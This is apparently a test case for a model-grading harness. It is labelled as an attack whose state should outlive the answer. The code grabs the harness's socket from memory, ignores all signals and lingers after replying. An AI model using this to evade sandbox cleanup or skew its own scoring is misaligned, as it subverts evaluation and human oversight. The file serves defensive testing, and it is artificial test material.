# attack: state_stays_alive | expect: honest-score | class: state | a thread and an ignored signal that shall outlive the answer and serve the next split
    from sklearn.naive_bayes import GaussianNB
    base = GaussianNB().fit(x_train, y_train)

    import fcntl, gc, os, socket, struct, sys, time
    import numpy as np
    def is_open(s):
        try: return fcntl.fcntl(s.fileno(), fcntl.F_GETFD) >= 0
        except OSError: return False
    job = [s for s in gc.get_objects() if isinstance(s, socket.socket) and is_open(s)][0]
    def answer(tag, rows=0, columns=0, kind=0, line=0, magic=b'DSG1'): return struct.pack('<4sBBHiQQ', magic, tag, kind, 0, line, rows, columns)

    import signal, threading
    for s in range(1, 65):
        try: signal.signal(s, signal.SIG_IGN)
        except (OSError, ValueError): pass
    class M:
        def predict_proba(self, x):
            p = np.ascontiguousarray(base.predict_proba(x))
            job.sendall(answer(3, len(x), 2) + p.tobytes())
            job.close()
            end = time.time() + 15
            while time.time() < end: time.sleep(.1)
    model = M()
